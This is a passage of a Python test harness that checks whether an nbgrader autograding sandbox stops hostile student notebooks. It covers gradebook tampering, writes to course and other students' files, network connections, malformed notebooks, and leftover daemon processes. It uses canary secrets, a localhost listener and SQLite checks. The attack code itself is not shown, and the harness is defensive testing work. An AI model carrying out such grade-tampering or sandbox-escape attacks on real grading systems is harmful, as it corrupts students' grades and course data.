                Expected(FULL), "reading changes no grade and no file: 8 (the questions and the "
                "hidden data need not be readable by the kernel at all)"),
        # writing outside the submission
        Hostile("write-gradebook", "cam + a cell (and a daemon, 60 s) that sets its own "
                "grades to full and extra credit, the victim's to 0, in every gradebook",
                with_cell("cam", setup, _tamper_gradebook),
                Expected(BLANK, processes="gbw", gradebook_clean=True),
                "the gradebook is out of reach; the daemon dies with the kernel: 0"),
        Hostile("write-course-files", "cam + a cell that writes into the course root, source, "
                "release, autograded, questions and hidden folders",
                with_cell("cam", setup, _write_course_files),
                Expected(BLANK, untouched=COURSE_FILES, nothing_planted=True),
                "the course is read-only or hidden for the kernel: 0, nothing changed"),
        Hostile("write-other-submission", "cam + a cell that overwrites the victim's submitted "
                "notebook with its own blank one", with_cell("cam", setup,
                                                             _write_other_submission),
                Expected(BLANK, untouched=(f"submitted/{VICTIM}",)),
                "other submissions are out of reach: 0, the victim keeps 8"),
        Hostile("network", "ada + a cell that connects to a listener on 127.0.0.1 and sends "
                "a datagram out", with_cell("ada", mid, _network),
                Expected(FULL, no_connection=True), "no network for the kernel: 8"),
        # notebook files
        # (no "json" in this name: the reason may quote the submission's path)
        Hostile("cut-notebook", "ada's notebook cut in half (not JSON)", _invalid_json,
                Expected(None, graded=False,
                         note=r"json|not a (valid )?notebook|unreadable|cannot be read"),
                "nbgrader cannot read it (NotJSONError): not graded; the reason must say so"),
        Hostile("nbformat-3", "ada's notebook saved as nbformat 3", _nbformat_3,
                Expected(FULL), "nbgrader reads it as version 4: 8"),
        Hostile("other-kernel", "ada with an R kernelspec", edited("ada", _other_kernel),
                Expected(FULL), "nbgrader writes the source's kernelspec back "
                "(OverwriteKernelspec): 8"),
    ]


KINDS: list[Hostile] = _kinds()
BY_NAME: dict[str, Hostile] = {kind.name: kind for kind in KINDS}


# -- the course around them --------------------------------------------------------------
def plant_secrets(root: Path, context: Context) -> None:
    """The victim (a copy of ada with a secret file), a secret in the course root and one
    in the gradebook (a student row); ``context.canaries`` gets their values."""
    from nbgrader.api import Gradebook

    for key in ("victim", "gradebook", "course"):
        context.canaries[key] = f"CANARY-{secrets.token_hex(8)}"
    victim = root / "submitted" / VICTIM / ASSIGNMENT
    shutil.copytree(SAMPLES / ASSIGNMENT / "ada", victim)
    (victim / SECRET_FILE).write_text(context.canaries["victim"] + "\n")
    (root / COURSE_SECRET_FILE).write_text(context.canaries["course"] + "\n")
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        gradebook.update_or_create_student(CANARY_STUDENT, first_name=context.canaries["gradebook"])


def build_all(root: Path, context: Context, kinds: list[Hostile] | None = None) -> list[str]:
    """Write every hostile submission into ``root/submitted``; their student ids."""
    names = []
    for kind in kinds or KINDS:
        folder = root / "submitted" / kind.name / ASSIGNMENT
        folder.mkdir(parents=True)
        kind.build(folder, context)
        names.append(kind.name)
    return names


def tree_digest(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """``{relative path: sha256}`` of every file (links as their target) under ``root``."""
    import hashlib

    digest = {}
    for path in sorted(root.rglob("*")):
        relative = str(path.relative_to(root))
        if any(relative == s or relative.startswith(s + "/") for s in skip):
            continue
        if path.is_symlink():
            digest[relative] = "link:" + os.readlink(path)
        elif path.is_file():
            digest[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


DEFINITION_TABLES = ("course", "assignment", "notebook", "base_cell", "source_cell",
                     "grade_cells", "solution_cells", "task_cells", "alembic_version")


def gradebook_rows(db: Path) -> dict[str, list[tuple]]:
    """The gradebook's definition tables and student rows, read straight from SQLite."""
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        rows = {table: sorted(map(tuple, con.execute(f"SELECT * FROM {table}")), key=repr)
                for table in DEFINITION_TABLES}
        rows["student"] = sorted(map(tuple, con.execute("SELECT * FROM student")), key=repr)
        return rows
    finally:
        con.close()


@dataclass(frozen=True)
class Leftover:
    """A process an attack started that is still alive."""

    pid: int
    name: str  # /proc/PID/comm
    cmdline: str

    def of(self, context: Context, tag: str) -> bool:
        """Started by the attack whose processes carry ``tag`` (``MARKER``: the command line
        marker; else the name ``context.process_name(tag)``)."""
        if tag == MARKER:
            return context.marker in self.cmdline
        return self.name == context.process_name(tag)



def leftover_processes(context: Context) -> list[Leftover]:
    """Processes an attack of this run started that are still alive."""
    import psutil

    prefix = context.process_name("")
    found = []
    for process in psutil.process_iter(["pid", "name", "cmdline", "status"]):
        info = process.info
        if info["status"] == psutil.STATUS_ZOMBIE:
            continue
        try:
            name = Path(f"/proc/{info['pid']}/comm").read_text().strip()
        except OSError:
            name = info["name"] or ""
        line = " ".join(info["cmdline"] or [])
        if name.startswith(prefix) or context.marker in line:
            found.append(Leftover(info["pid"], name, line[:120]))
    return found


def kill_leftovers(context: Context) -> None:
    """Kill whatever ``leftover_processes`` finds (clean-up after a failed test)."""
    for leftover in leftover_processes(context):
        try:
            os.kill(leftover.pid, 9)
        except OSError:
            pass


@contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1: (port, what it received) while the block runs."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    received.append(connection.recv(1024) or b"(connected)")
                except OSError:
                    received.append(b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join(2)
        server.close()


# -- the outcome of a batch, and what each kind must have got ---------------------------
@dataclass
class BatchState:
    """A course after one grading run, and what it looked like before."""

    root: Path
    context: Context
    graded: set[str]
    failed: dict[str, str]  # student -> the reason given
    notes: dict[str, list[str]]  # student -> the instructor's notes
    before: dict[str, str]  # tree_digest of the course before (grader outputs skipped)
    after: dict[str, str]
    leftovers: list[Leftover]
    received: list[bytes]

    @property
    def db(self) -> Path:
        return self.root / "gradebook.db"

    def query(self, sql: str, *args: object) -> list[tuple]:
        con = sqlite3.connect(f"file:{self.db}?mode=ro", uri=True)
        try:
            return list(con.execute(sql, args))
        finally:
            con.close()

    def score(self, student: str) -> float | None:
        """The student's total for hw1 (nbgrader's rule), None without a submission."""
        from nbgrader.api import Gradebook, MissingEntry

        with Gradebook(f"sqlite:///{self.db}") as gradebook:
            try:
                return gradebook.find_submission(ASSIGNMENT, student).score
            except MissingEntry:
                return None

    def grades(self, student: str) -> dict[str, tuple]:
        """``{grade id: (auto score, manual score, needs manual grade)}``."""
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{self.db}") as gradebook:
            submission = gradebook.find_submission(ASSIGNMENT, student)
            return {g.name: (g.auto_score, g.manual_score, g.needs_manual_grade)
                    for notebook in submission.notebooks for g in notebook.grades}

    def submission_rows(self) -> dict[str, int]:
        """``{student: submitted_assignment rows}`` for hw1, straight from SQLite."""
        return dict(self.query(
            "SELECT sa.student_id, COUNT(*) FROM submitted_assignment sa JOIN assignment a "
            "ON sa.assignment_id = a.id WHERE a.name = ? GROUP BY sa.student_id", ASSIGNMENT))

    def tampered_rows(self) -> list[tuple]:
        """Grades with a manual score or extra credit, students renamed (none may be)."""
        return [*self.query(
            "SELECT 'grade', sa.student_id, g.manual_score, g.extra_credit FROM grade g "
            "JOIN submitted_notebook sn ON g.notebook_id = sn.id JOIN submitted_assignment sa "
            "ON sn.assignment_id = sa.id WHERE g.manual_score IS NOT NULL OR "
            "g.extra_credit IS NOT NULL"),
            *self.query("SELECT 'student', id, first_name, NULL FROM student "
                        "WHERE first_name = 'pwned'")]

    def changed(self, prefixes: tuple[str, ...] = ("",)) -> list[str]:
        """Course paths under ``prefixes`` changed, added or removed by the run."""
        def under(path: str) -> bool:
            return any(not p or path == p or path.startswith(p + "/") for p in prefixes)

        keys = {k for k in self.before.keys() | self.after.keys() if under(k)}
        return sorted(k for k in keys if self.before.get(k) != self.after.get(k))

    def autograded_bytes(self, student: str) -> bytes:
        folder = self.root / "autograded" / student / ASSIGNMENT
        if not folder.is_dir():
            return b""
        return b"".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())


def problems(kind: Hostile, state: BatchState) -> list[str]:
    """How ``kind``'s outcome differs from its ``Expected`` (empty: it held)."""
    expected, name = kind.expected, kind.name
    found = []
    score = state.score(name)
    if expected.graded:
        if name not in state.graded:
            found.append(f"not graded: {state.failed.get(name, 'no result')!r}")
        elif score is None or abs(score - expected.score) > 1e-6:
            found.append(f"score {score}, expected {expected.score}")
    else:
        if name not in state.failed:
            found.append(f"graded ({score} points); expected a failure with a reason")
        if score is not None:
            found.append("a failed submission has a gradebook row")
    told = notes_text(state.notes, state.failed, name)
    if not matches(expected.note, told):
        found.append(f"the instructor is not told /{expected.note}/: {told.strip()[:300]!r}")
    if expected.manual and name in state.graded:
        grades = state.grades(name)
        for grade_id in expected.manual:
            auto, _, needs = grades.get(grade_id, (0, None, False))
            if auto is not None or not needs:
                found.append(f"{grade_id}: auto score {auto}, needs manual grade {needs}")
    files = state.autograded_bytes(name)
    for key in expected.secrets:
        if state.context.canaries[key].encode() in files:
            found.append(f"the {key} secret is in its autograded files")
    if expected.processes:
        alive = [p for p in state.leftovers if p.of(state.context, expected.processes)]
        if alive:
            found.append(f"{len(alive)} of its processes still run, e.g. {alive[0]}")
    if expected.max_notebook_bytes:
        notebook = state.root / "autograded" / name / ASSIGNMENT / NOTEBOOK
        size = notebook.stat().st_size if notebook.exists() else 0
        if size > expected.max_notebook_bytes:
            found.append(f"autograded notebook of {size} bytes")
    if expected.no_connection and state.received:
        found.append(f"the listener heard {state.received[:3]}")
    if expected.untouched:
        changed = state.changed(expected.untouched)
        if changed:
            found.append(f"it changed {changed[:5]}")
    if expected.nothing_planted:
        planted = [str(p.relative_to(state.root)) for p in state.root.rglob("*")
                   if "pwned" in p.name.lower()]
        if planted:
            found.append(f"files planted: {planted[:5]}")
    if expected.gradebook_clean:
        tampered = state.tampered_rows()
        if tampered:
            found.append(f"gradebook rows changed: {tampered[:5]}")
        if state.score(VICTIM) != FULL:
            found.append(f"the victim has {state.score(VICTIM)} points, not {FULL}")
    return found


def notes_text(notes: dict[str, list[str]], failed: dict[str, str], student: str) -> str:
    """Everything the instructor is told about ``student``: notes and failure reason."""
    return "\n".join([*notes.get(student, []), failed.get(student, "")])


def matches(pattern: str | None, text: str) -> bool:
    return pattern is None or re.search(pattern, text, re.IGNORECASE) is not None


def wait_until(predicate: Callable[[], bool], seconds: float, step: float = 0.2) -> bool:
    """Poll ``predicate`` until it holds or ``seconds`` pass; whether it held."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(step)
    return predicate()
